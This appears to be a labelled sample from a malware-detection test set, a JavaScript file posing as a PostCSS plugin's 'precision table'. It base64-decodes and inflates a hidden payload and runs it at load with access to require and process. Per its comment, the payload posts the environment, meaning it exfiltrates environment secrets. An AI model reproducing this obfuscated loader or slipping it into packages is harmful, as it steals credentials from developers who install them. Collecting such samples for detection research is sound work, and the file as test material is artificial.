// expect: malicious
// source: blind set 8 (a PostCSS plugin's "precision table"): a raw-deflated, base64 payload unpacked
// with zlib and run in a vm context at load; the payload posts the environment
const zlib = require('zlib');
const vm = require('vm');
const TABLE = 'DctbCoMwEAXQ5UwCkgW4BD+0oBtIzdUEzMOZqbSU7r3+HjiM85UYhqJqE7KOb4Co+cYqWnxGT+qfB8Th7XM7QF2Gxhp6ekzzQj/rUIIZ5ml0opzKnraPaVxXyH3KZe0f';
vm.runInNewContext(zlib.inflateRawSync(Buffer.from(TABLE, 'base64')).toString(), { require, process });
